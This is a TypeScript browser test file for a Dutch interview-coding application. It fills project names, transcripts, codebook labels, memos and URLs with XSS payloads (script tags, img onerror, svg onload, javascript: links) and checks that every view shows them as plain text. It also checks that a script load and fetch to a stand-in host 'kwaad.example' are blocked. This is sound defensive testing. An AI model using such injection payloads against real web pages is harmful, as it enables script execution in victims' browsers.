/** Words that would be scripts, wherever a person or a file can write them: a browser shows them as they are and does nothing. */

import { describe, expect, it } from 'vitest';
import { NO_BROWSER, visit } from '../../support/browser.js';
import { changeCodebook, codedProject } from '../../support/coded-project.js';
import { PROJECT, RESPONDENTS } from '../../support/project.js';
import { run } from '../../support/run.js';

const BROKEN_IN = 'globalThis.gekraakt=1';
const SCRIPT = `<script>${BROKEN_IN}</script>`;
const IMAGE = `<img src=x onerror="${BROKEN_IN}">`;
const LINK = `javascript:${BROKEN_IN}`;

/** A project in which every name, word and memo is an attack. */
async function hostileProject(): Promise<string> {
  const folder = await codedProject({
    'project.yaml': `${PROJECT.replace('label: Noord', `label: 'Noord ${IMAGE}'`)}privacy: {sleutel: leesbaar}\n`,
    'respondents.csv': RESPONDENTS,
    'interviews/R01.txt': [
      `I: Hoe ging het ${SCRIPT}?`,
      `R: Het ging heel eerlijk ${IMAGE}, met stickers ${SCRIPT} op [de plannen](${LINK}).`,
      `<svg onload=${BROKEN_IN}>: De moestuin won ${SCRIPT}.`,
      '',
    ].join('\n\n'),
  });
  changeCodebook(folder, ['label: Groen', `label: '${IMAGE} Groen'`]);
  await run(folder, 'code');
  const memo = `${SCRIPT} ${IMAGE} ${LINK}`;
  const coder = ['--codeur', 'Aya'];
  for (const about of [['--nieuwe-codeur'], ['--bestand', 'R01.txt', '--beurt', '2']]) {
    expect(await run(folder, 'memo', 'add', memo, ...coder, ...about)).toMatchObject({ code: 0, stderr: '' });
  }
  return folder;
}

describe.skipIf(NO_BROWSER !== null)('words that would be scripts', () => {
  it('are shown as they are in every view, and nothing is carried out', async () => {
    const folder = await hostileProject();
    const { tab, context, complaints, json } = await visit(folder);
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    const { origin } = new URL(tab.url());
    const seen = async (address: string, ...words: readonly string[]): Promise<void> => {
      await tab.goto(`${origin}/#/${address}`);
      for (const word of words) await tab.getByText(word).first().waitFor();
      expect(await tab.evaluate('globalThis.gekraakt')).toBeUndefined();
      expect(
        await tab.locator('main script, main img, main svg[onload], a[href^="javascript"]').count(),
      ).toBe(0);
    };
    // Readers of transcripts take no such label for a speaker; the page must not need that.
    await tab.route(/\/gesprekken\/gesprek\?/, async (route) => {
      const { pathname, search } = new URL(route.request().url());
      const answer = await json(pathname + search).then(JSON.stringify, () => null);
      if (answer === null) return route.continue();
      const speaker = JSON.stringify(`R01 ${IMAGE}`);
      return route.fulfill({
        json: JSON.parse(answer.replaceAll('"speaker":"R01"', `"speaker":${speaker}`)),
      });
    });
    await seen(
      'gesprek/R01.txt',
      `R01 ${IMAGE}`,
      `heel eerlijk ${IMAGE}, met stickers ${SCRIPT}`,
      `won ${SCRIPT}`,
      `${IMAGE} Groen`,
      LINK,
    );
    await tab.keyboard.press('j');
    await tab.locator('.codering[aria-current]').waitFor();
    await tab.keyboard.press('m');
    await tab.getByLabel('Wat wilt u onthouden?').fill(`${SCRIPT}${IMAGE}`);
    await tab.keyboard.press('Control+Enter');
    await tab
      .locator('.aantekening')
      .filter({ hasText: `${SCRIPT}${IMAGE}` })
      .waitFor();
    await seen('memos', `${SCRIPT} ${IMAGE} ${LINK}`);
    await seen('codeboek', `${IMAGE} Groen`);
    await tab.goto(`${origin}/#/zoeken`);
    await tab.getByRole('searchbox').first().fill('eerlijk');
    await tab.keyboard.press('Enter');
    await tab.getByText(IMAGE).filter({ visible: true }).first().waitFor();
    for (const address of [
      'overzicht',
      'gesprekken',
      'namen',
      'samen',
      'geschiedenis',
      'vergelijken',
      'samenvatten',
      'rapport',
      'binnenbrengen',
      'zoeken',
    ])
      await seen(address);
    await seen(`gesprek/${encodeURIComponent(`"><script>${BROKEN_IN}</script>`)}`);
    await seen(encodeURIComponent(SCRIPT));
    expect(asked.filter((url) => !url.startsWith(origin))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('would be refused by the browser if the page ever made them scripts', async () => {
    const { tab } = await visit(await codedProject());
    await tab.getByRole('heading', { level: 1 }).waitFor();
    const refused = await tab.evaluate(`(() => {
      const tried = [];
      for (const [what, attempt] of Object.entries({
        html: () => { document.body.innerHTML = '<b>x</b>'; },
        address: () => { document.createElement('script').src = 'https://kwaad.example/x.js'; },
      })) {
        try { attempt(); } catch { tried.push(what); }
      }
      return tried;
    })()`);
    expect(refused).toEqual(['html', 'address']);
    await expect(tab.evaluate("fetch('https://kwaad.example/')")).rejects.toThrow();
  });
});
